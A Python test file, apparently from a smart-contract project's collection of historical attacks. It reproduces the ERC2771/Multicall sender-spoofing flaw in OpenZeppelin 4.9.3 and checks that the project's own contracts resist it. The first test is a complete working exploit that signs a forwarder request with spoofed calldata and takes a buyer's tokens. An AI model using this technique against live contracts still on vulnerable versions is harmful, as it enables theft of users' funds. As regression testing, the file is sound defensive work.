"""A meta-transaction that speaks in anybody's name.

Peer, the real parts: OpenZeppelin 4.9.3's `ERC2771Context`, `Multicall` and `MinimalForwarder`, put
together in `models/SpoofedToken.sol` as in thirdweb's tokens (December 2023; one token lost 84
ether). The forwarder writes the signer behind the calldata of the whole, `multicall` cuts that into
calls, and each of them takes its own last 20 bytes for the signer. Mended in 4.9.5 and 5.0.1.
"""

from __future__ import annotations

from eth_abi.abi import encode
from eth_utils.crypto import keccak

from bench.gas.ours import PRICE
from dokkaebi.chain.suite import COIN, COMPILED, Contract, load_abi
from tests.museum.hall import Hall

AMOUNT = 10**20
REQUEST = (
    "ForwardRequest(address from,address to,uint256 value,uint256 gas,uint256 nonce,bytes data)"
)
DOMAIN = "EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"


def forward(hall: Hall, forwarder: Contract, to: str, data: bytes) -> None:
    """What the rival signs, in their own name, and has forwarded."""
    rival = hall.at["rival"]
    nonce = forwarder.call("getNonce", rival)
    words = (keccak(text=REQUEST), rival, to, 0, 1_000_000, nonce, keccak(data))
    types = ["bytes32", "address", "address", "uint256", "uint256", "uint256", "bytes32"]
    domain = (
        keccak(text=DOMAIN),
        keccak(text="MinimalForwarder"),
        keccak(text="0.0.1"),
        hall.chain.chain_id,
        forwarder.address,
    )
    separator = keccak(encode(["bytes32", "bytes32", "bytes32", "uint256", "address"], domain))
    digest = keccak(b"\x19\x01" + separator + keccak(encode(types, words)))
    v, r, s = hall.sign_hash("rival", digest)
    request = (rival, to, 0, 1_000_000, nonce, data)
    hall.send("deployer", forwarder, "execute", request, r + s + bytes([v]))


def calldata(contract: Contract, call: str, *values: object) -> bytes:
    return bytes.fromhex(contract.encode(call, *values)[2:])


def test_the_parts_give_the_rival_the_buyers_tokens(hall: Hall) -> None:
    forwarder = hall.model("MinimalForwarder")
    token = hall.model("SpoofedToken", forwarder.address)
    hall.send("deployer", token, "mint", hall.at["buyer"], AMOUNT)
    theft = calldata(token, "transfer", hall.at["rival"], AMOUNT)
    # Sent straight, the call is the rival's own, and finds nothing.
    forward(hall, forwarder, token.address, theft)
    assert hall.held(token, "buyer") == AMOUNT
    spoofed = theft + bytes.fromhex(hall.at["buyer"][2:])
    forward(hall, forwarder, token.address, calldata(token, "multicall", [spoofed]))
    assert hall.held(token, "rival") == AMOUNT
    assert hall.held(token, "buyer") == 0


def test_ours_reads_no_sender_from_calldata(hall: Hall) -> None:
    token, market = hall.suite.token, hall.suite.escrow_market
    forwarder = hall.model("MinimalForwarder")
    buyer = bytes.fromhex(hall.at["buyer"][2:])
    offer = hall.goods(COIN)
    hall.send("seller", market, "offer", offer)
    hall.send("buyer", market, "fund", offer, b"", 1, COIN, coins=PRICE)
    trade = hall.trade_of(offer, hall.at["buyer"])
    held, state = hall.held(token, "buyer"), hall.state(trade)
    forward(
        hall, forwarder, token.address, calldata(token, "transfer", hall.at["rival"], 1) + buyer
    )
    forward(hall, forwarder, market.address, calldata(market, "confirm", trade) + buyer)
    assert (hall.held(token, "buyer"), hall.state(trade)) == (held, state)
    # The forwarder is a caller like any other, whatever stands behind the calldata.
    data = "0x" + (calldata(market, "confirm", trade) + buyer).hex()
    assert hall.refusal_of(forwarder.address, market.address, data) == (
        "Trade_NotBuyer",
        forwarder.address,
        hall.at["buyer"],
    )
    hall.send("buyer", market, "confirm", trade)
    assert hall.state(trade)[0] == 0


def test_ours_has_no_function_that_calls_itself_for_others() -> None:
    for name in COMPILED:
        names = {entry["name"] for entry in load_abi(name) if entry["type"] == "function"}
        assert not names & {"multicall", "isTrustedForwarder", "trustedForwarder", "execute"}
